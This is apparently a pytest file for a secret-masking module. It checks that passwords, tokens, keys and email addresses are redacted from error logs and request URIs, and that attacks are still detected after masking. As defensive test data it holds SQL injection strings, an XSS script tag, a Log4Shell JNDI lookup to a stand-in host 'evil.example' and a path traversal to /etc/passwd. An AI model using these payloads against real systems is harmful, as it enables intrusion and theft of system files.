"""What may be a secret or may name a person is taken out of quoted text; everything else stays."""

from datetime import UTC, datetime

import pytest

from collectors.masking import HIDDEN, MAIL, masked, masked_request
from diagnosis.crowd import attacks
from diagnosis.systems.firewall import BlockedRequest

SECRET = "hunter2Hunter2"
JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N"
KEPT_WORDS = "KeyError"


@pytest.mark.parametrize(
    "text",
    [
        f"KeyError while connecting with password={SECRET}",
        f"KeyError {{'password': '{SECRET}', 'user': 'x'}}",
        f'{{"errorType":"KeyError","dbPassword":"{SECRET}"}}',
        f'KeyError "{{\\"client_secret\\": \\"{SECRET}\\"}}"',
        f"KeyError: postgresql://orders:{SECRET}@db.internal:5432/orders is down",
        f"KeyError amqps://{'u' * 20}:{SECRET}@b-1.mq.eu-west-1.amazonaws.com:5671",
        f"KeyError Server=db;User Id=sa;Password={SECRET};Encrypt=true",
        f"KeyError in request with Authorization: Bearer {SECRET}{SECRET}",
        f"KeyError {{'Authorization': 'Basic {SECRET}{SECRET}=='}}",
        f"KeyError headers Cookie: session={SECRET}; theme=dark",
        f"KeyError x-api-key: {SECRET}",
        f"KeyError DB_PASSWORD: {SECRET}",
        f"KeyError ApiKey={SECRET}&page=2",
        f"KeyError of -----BEGIN RSA PRIVATE KEY-----\n{SECRET}\n-----END RSA PRIVATE KEY-----",
        f"KeyError of -----BEGIN PRIVATE KEY----- {SECRET} and cut off",
        f"KeyError at https://hooks.slack.com/services/T000/B000/{SECRET}",
        f"KeyError session_id={SECRET}",
    ],
)
def test_a_secret_of_a_known_form_is_masked_and_the_words_around_it_stay(text: str) -> None:
    shown = masked(text)
    assert SECRET not in shown
    assert KEPT_WORDS in shown
    assert HIDDEN in shown


@pytest.mark.parametrize(
    "secret",
    [
        JWT,
        "AKIAIOSFODNN7EXAMPLE",
        "ASIAIOSFODNN7EXAMPLE",
        "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKE9",
        "ghp_16C7e42F292c6912E7710c838347Ae178B4a",
        "xoxb-123456789012-abcdefghijkl",
        "sk_live_4eC39HqLyjWDarjtT1zdp7dc",
    ],
)
def test_a_key_or_token_is_masked_without_a_name_before_it(secret: str) -> None:
    assert masked(f"ValueError: {secret} is not accepted") == f"ValueError: {HIDDEN} is not accepted"


def test_an_address_of_a_person_is_masked() -> None:
    assert masked("no customer jane.doe+x@mail.example.co.uk in table") == f"no customer {MAIL} in table"
    assert JWT not in masked_request(f"/reset/{JWT}")
    assert "jane" not in masked_request("/users/jane@example.com?q=jane%40example.com")


@pytest.mark.parametrize(
    "text",
    [
        "[ERROR] KeyError: 'sku' Traceback (most recent call last): File \"/var/task/app.py\", line 12",
        "Task timed out after 3.00 seconds",
        "AccessDenied: GetSecretValue arn:aws:secretsmanager:eu-west-1:111122223333:secret:orders/db-AbCdEf",
        "SyntaxError: Unexpected token < in JSON at position 0",
        "The security token included in the request is expired",
        "Basic authentication failed",
        "Cannot find module '@aws-sdk/client-s3' required by lodash@4.17.21",
        f"CannotPullContainerError: 1.dkr.ecr.eu-west-1.amazonaws.com/x@sha256:{'0123456789abcdef' * 4} gone",
        "RequestId: 8f1b2c3d-0000-4111-a222-333344445555 Error: Runtime exited with error: signal: killed",
        "at com.example.orders.Service.place(Service.java:42)",
        "commit 356a192b7913b04c54574d18c28d46e6395428ab",
    ],
)
def test_what_tells_of_the_fault_stays(text: str) -> None:
    assert masked(text) == text


@pytest.mark.parametrize(
    "uri",
    [
        "/login?user=x&password=' OR 1=1--",
        "/login?password=%27%20OR%201%3D1--",
        "/login?password=admin%27%20OR%20%271%27=%271",
        "/search?token=<script>alert(1)</script>",
        "/a?api_key=${jndi:ldap://evil.example/a}",
        "/download?secret=../../../../etc/passwd",
    ],
)
def test_an_attack_in_a_masked_request_is_still_seen(uri: str) -> None:
    at = datetime(2026, 11, 20, tzinfo=UTC)
    request = BlockedRequest("rule", None, at, "192.0.2.1", "DE", "GET", masked_request(uri))
    assert attacks(request)


def test_a_request_keeps_its_path_and_loses_its_secrets() -> None:
    uri = f"/orders/42?token={SECRET}&page=2&email=jane@example.com"
    assert masked_request(uri) == f"/orders/42?token={HIDDEN}&page=2&email={MAIL}"


@pytest.mark.parametrize(
    "text",
    [
        each * (16_000 // len(each))
        for each in (
            "a",
            "://",
            "password",
            "a@",
            "eyJ",
            'secret":"\\',
            "Bearer ",
            "-----BEGIN PRIVATE KEY-----",
            "cookie:",
            "A1a/",
        )
    ],
)
def test_hostile_text_ends(text: str) -> None:
    assert isinstance(masked(text), str)
    assert isinstance(masked_request(text), str)
